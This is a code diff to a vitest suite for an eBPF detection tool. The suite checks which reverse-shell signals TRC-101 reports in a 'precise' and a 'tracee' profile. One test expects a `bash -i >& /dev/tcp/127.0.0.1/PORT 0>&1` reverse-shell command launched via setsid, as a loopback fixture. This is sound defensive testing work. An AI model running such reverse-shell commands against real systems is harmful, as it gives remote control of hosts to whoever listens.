@@ -1,7 +1,8 @@
 /**
  * VM tier (design.md §6, issue 6): a real Debian kernel under qemu, where BPF LSM works, with
  * the built package running inside (test/vm/run.sh boots it, test/vm/guest/entry.mjs runs the
- * cases). This file asserts on what the guest observed.
+ * cases). This file asserts on what the guest observed: the guest feeds the same events to two
+ * engines, TRC-101's precise profile (builtinRules() as it comes) and its tracee profile.
  *
  * Another kernel: SOCKEYE_VM_KERNEL=/boot/vmlinuz-X or SOCKEYE_VM_DEB=linux-image-X.deb
  * (SOCKEYE_VM_APPEND adds to its command line), then `npm run test:vm`.
@@ -18,6 +19,8 @@ import { beforeAll, describe, expect, it } from "vitest";
 const inCI = process.env.CI === "true";
 const here = dirname(fileURLToPath(import.meta.url));
 const ELASTIC_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
+/** The precise profile's verdicts for a shell running on the socket (precise-judge.ts). */
+const SHELL_VERDICTS = ["interpreter_stdio_on_socket", "shell_on_socket", "runs_commands_read_from_socket"];
 
 interface Candidate { capability: string; program: string; live: boolean; reason: string }
 interface Summary {
@@ -31,8 +34,14 @@ interface Summary {
   source: string | null;
   syscall: string | null;
   filename: string | null;
+  profile: string | null;
+  verdict: { reason: string; socket_inode: number; stdio_fds: number[]; origin: string; program?: { executable: string; interpreter: string | null } } | null;
 }
-interface Connect { pid: number; comm: string; fd: number; family: string; source: string; remote: { address: string; port: number } | null; unixPath: string | null }
+interface Connect {
+  pid: number; comm: string; fd: number; family: string; source: string;
+  remote: { address: string; port: number } | null; unixPath: string | null; socketOnFds: number[];
+}
+interface StdioFd { kind: string; ino: number; origin?: string; remote?: { address: string; port: number }; local?: { address: string; port: number } }
 interface Case {
   name: string;
   expect: string;
@@ -41,8 +50,13 @@ interface Case {
   signal: string | null;
   stderr: string;
   durationMs: number;
+  /** Every rule's findings with TRC-101's precise profile (builtinRules() as it comes). */
   findings: Summary[];
-  execs: { filename: string; args: string[] }[];
+  /** The same events through an engine with TRC-101's tracee profile. */
+  traceeFindings: Summary[];
+  /** The precise profile's TRC-101 suppressions while the case ran, by reason. */
+  suppressed: Record<string, number>;
+  execs: { filename: string; args: string[]; stdio: StdioFd[] | null }[];
   connects: Connect[];
 }
 interface Results {
@@ -157,14 +171,20 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
     if (!c) throw new Error(`the guest ran no case named ${name} (ran: ${r.cases.map((x) => x.name).join(", ")})`);
     return c;
   };
-  const trc101 = (c: Case) => c.findings.filter((f) => f.ruleId === "TRC-101");
-  /** The case's process did its part, and the only finding while it ran is this TRC-101. */
-  const onlyTrc101 = (c: Case, expected: Record<string, unknown>) => {
+  const trc101 = (list: Summary[]) => list.filter((f) => f.ruleId === "TRC-101");
+  /**
+   * A socket put on stdio with nothing run on it. The tracee profile reports it, exactly as
+   * today (Tracee's verdict: the socket sits on stdio); the precise one reports nothing, since
+   * no shell ran on the socket, and counts the held trigger as no_program when the helper exits.
+   */
+  const onStdioOnly = (c: Case, expected: Record<string, unknown>) => {
     expect(c.status, c.stderr).toBe(0);
-    const found = trc101(c);
+    const found = trc101(c.traceeFindings);
     expect(found).toHaveLength(1);
-    expect(found[0]).toMatchObject(expected);
-    expect(c.findings).toHaveLength(1);
+    expect(found[0]).toMatchObject({ ...expected, profile: "tracee" });
+    expect(c.traceeFindings).toHaveLength(1);
+    expect(c.findings).toEqual([]);
+    expect(c.suppressed).toEqual({ no_program: 1 });
   };
   const live = (cands: Candidate[], capability: string) => cands.filter((x) => x.capability === capability && x.live).map((x) => x.program);
   const ia32Known = Boolean(mode.package) || !kernelOverride;
@@ -174,7 +194,7 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
   vmIt("the guest suite ran to the end without an error", () => {
     expect(r.error).toBeNull();
     expect(r.cases.map((c) => c.name)).toEqual([
-      "connect-fd0", "dup2-fd1", "dup3-fd0", "setsid-bash-dev-tcp", "ia32-dup2-fd1", "ia32-connect-fd0",
+      "connect-fd0", "dup2-fd1", "dup3-fd0", "connect-fd0-exec-sh", "setsid-bash-dev-tcp", "ia32-dup2-fd1", "ia32-connect-fd0",
       "socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "unix-fd0", "nohup-no-dev-tcp",
     ]);
     expect(r.warnings).toEqual([]);
@@ -239,12 +259,14 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
 
   vmIt(`ia32 syscalls (int $0x80): ${ia32Known && mode.ia32 === "refused"
     ? "each ia32 case dies with SIGSEGV at its first int $0x80, and nothing is reported"
-    : "a dup2 onto fd 1 and a connect on fd 0 each give one TRC-101"}`, () => {
+    : "a dup2 onto fd 1 and a connect on fd 0 each give one tracee TRC-101, none precise (no_program)"}`, () => {
     if (ia32Expected() === "taken") return ia32Seen();
     for (const name of ["ia32-dup2-fd1", "ia32-connect-fd0"]) {
       const c = caseOf(name);
       expect({ name, status: c.status, signal: c.signal }).toEqual({ name, status: null, signal: "SIGSEGV" });
       expect(c.findings).toEqual([]);
+      expect(c.traceeFindings).toEqual([]);
+      expect(c.suppressed).toEqual({});
     }
     // The connect was to be the ia32 call itself: none reached the kernel's connect hook.
     expect(caseOf("ia32-connect-fd0").connects).toEqual([]);
@@ -252,12 +274,12 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
 
   function ia32Seen() {
     const dup = caseOf("ia32-dup2-fd1");
-    onlyTrc101(dup, {
+    onStdioOnly(dup, {
       processName: "ia32-syscalls", eventKind: "socket_dup", syscall: "dup2",
       finding: { "IP address": "127.0.0.1", Port: String(dup.port), "File descriptor": 1 },
     });
     const connect = caseOf("ia32-connect-fd0");
-    onlyTrc101(connect, {
+    onStdioOnly(connect, {
       processName: "ia32-syscalls", eventKind: "connect", source: mode.source,
       finding: { "IP address": "127.0.0.1", Port: String(connect.port), "File descriptor": 0 },
     });
@@ -267,9 +289,9 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
     expect(live(r.probeWithoutLsm!.candidates, "connect")).toEqual(["fentry/security_socket_connect"]);
   });
 
-  vmIt(`TRC-101 fires for a connect made on fd 0, seen by ${mode.connectProgram}`, () => {
+  vmIt(`a connect made on fd 0, seen by ${mode.connectProgram}: tracee TRC-101, precise none (no_program)`, () => {
     const c = caseOf("connect-fd0");
-    onlyTrc101(c, {
+    onStdioOnly(c, {
       processName: "sockhelper",
       eventKind: "connect",
       source: mode.source,
@@ -279,9 +301,9 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
   });
 
   for (const [name, syscall, fd] of [["dup2-fd1", "dup2", 1], ["dup3-fd0", "dup3", 0]] as const) {
-    vmIt(`TRC-101 fires for ${syscall} of a connected socket onto fd ${fd}`, () => {
+    vmIt(`${syscall} of a connected socket onto fd ${fd}: tracee TRC-101, precise none (no_program)`, () => {
       const c = caseOf(name);
-      onlyTrc101(c, {
+      onStdioOnly(c, {
         processName: "sockhelper",
         eventKind: "socket_dup",
         syscall,
@@ -302,10 +324,54 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
       filename: "/usr/bin/setsid",
       processArgs: ["setsid", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${c.port} 0>&1`],
     });
-    // The shell it starts puts the socket on stdio: TRC-101 sees that too.
-    const shell = trc101(c);
-    expect(shell.length).toBeGreaterThanOrEqual(1);
-    expect(shell[0]).toMatchObject({ processName: "bash", finding: { "IP address": "127.0.0.1", Port: String(c.port) } });
+    // The shell it starts puts the socket on stdio: TRC-101 sees that too, once in the precise
+    // profile (one socket, one finding, however many bash processes dup or inherit it) ...
+    const shell = trc101(c.findings);
+    expect(shell).toHaveLength(1);
+    expect(shell[0]).toMatchObject({
+      processName: "bash", profile: "precise",
+      finding: { "IP address": "127.0.0.1", Port: String(c.port) },
+      destination: { ip: "127.0.0.1", port: c.port },
+    });
+    expect(SHELL_VERDICTS).toContain(shell[0]!.verdict?.reason);
+    expect(shell[0]!.verdict!.socket_inode).toBeGreaterThan(0);
+    // ... and at least once in the tracee one (one finding per process and endpoint).
+    const tracee = trc101(c.traceeFindings);
+    expect(tracee.length).toBeGreaterThanOrEqual(1);
+    expect(tracee[0]).toMatchObject({ processName: "bash", finding: { "IP address": "127.0.0.1", Port: String(c.port) } });
+    expect(c.traceeFindings.filter((f) => f.ruleId === ELASTIC_ID)).toHaveLength(1);
+  });
+
+  vmIt(`a shell exec'd with the socket of a connect on fd 0 (${mode.connectProgram}) as its stdin and stdout: one precise TRC-101, shell_on_socket`, () => {
+    const c = caseOf("connect-fd0-exec-sh");
+    // sh read "exit" from the listener through the socket on its stdin.
+    expect(c.status, c.stderr).toBe(0);
+    // The trigger: the helper's connect on fd 0, through this boot's connect program.
+    expect(c.connects).toHaveLength(1);
+    expect(c.connects[0]).toMatchObject({ comm: "sockhelper", fd: 0, family: "inet", source: mode.source, remote: { address: "127.0.0.1", port: c.port }, socketOnFds: [0] });
+    // What sh started with, read from its fd table at exec (the CO-RE reads on this kernel):
+    // the one socket on fds 0 and 1, stderr still the suite's (node's "pipe" stdio is an
+    // AF_UNIX socketpair).
+    const sh = c.execs.find((e) => e.filename === "/bb/sh");
+    expect(sh, JSON.stringify(c.execs)).toBeDefined();
+    expect(sh!.args).toEqual(["sh"]);
+    const [in0, out1, err2] = sh!.stdio!;
+    expect(in0).toMatchObject({ kind: "inet", origin: "connected", remote: { address: "127.0.0.1", port: c.port }, local: { address: "127.0.0.1" } });
+    expect(in0!.ino).toBeGreaterThan(0);
+    expect(out1).toEqual(in0);
+    expect(err2).toMatchObject({ kind: "unix", socketType: "stream" });
+    // The finding is about the shell, from its exec; the helper's held triggers fold into it.
+    expect(c.findings).toHaveLength(1);
+    expect(c.findings[0]).toMatchObject({
+      ruleId: "TRC-101", profile: "precise", processName: "sh", eventKind: "exec", filename: "/bb/sh",
+      finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": 0 },
+      destination: { ip: "127.0.0.1", port: c.port },
+      verdict: { reason: "shell_on_socket", socket_inode: in0!.ino, stdio_fds: [0, 1], origin: "connected", program: { executable: "/bb/sh", interpreter: "shell" } },
+    });
+    expect(c.suppressed).toEqual({});
+    // Tracee reports the helper's connect (its dup of the same endpoint folds into it).
+    expect(trc101(c.traceeFindings)).toHaveLength(1);
+    expect(c.traceeFindings[0]).toMatchObject({ processName: "sockhelper", eventKind: "connect", source: mode.source, finding: { "File descriptor": 0 } });
   });
 
   for (const name of ["socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "nohup-no-dev-tcp", "unix-fd0"]) {
@@ -314,13 +380,20 @@ for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, $
       // The process did what the case says (else its silence proves nothing) ...
       expect(c.status, c.stderr).toBe(0);
       expect(c.execs.length).toBeGreaterThanOrEqual(1);
-      // ... and no rule said a word while it ran.
+      // ... and no rule said a word while it ran, in either profile, nor held anything.
       expect(c.findings).toEqual([]);
+      expect(c.traceeFindings).toEqual([]);
+      expect(c.suppressed).toEqual({});
     });
   }
 
   vmIt("the negatives really ran what they name", () => {
     expect(caseOf("setsid-sleep").execs.map((e) => e.filename)).toContain("/usr/bin/setsid");
+    // The exec-time record of nohup: stdin the suite's socketpair, stdout and stderr the one
+    // /dev/null.
+    const nohup = caseOf("nohup-no-dev-tcp").execs.find((e) => e.filename === "/usr/bin/nohup");
+    expect(nohup!.stdio!.map((s) => s.kind)).toEqual(["unix", "chardev", "chardev"]);
+    expect(nohup!.stdio![2]).toEqual(nohup!.stdio![1]);
     expect(caseOf("nohup-no-dev-tcp").execs.map((e) => e.filename)).toContain("/usr/bin/nohup");
     // connect on fd 3 is not stdio: filtered in the kernel, it never reaches userspace.
     expect(caseOf("connect-fd3").connects).toEqual([]);
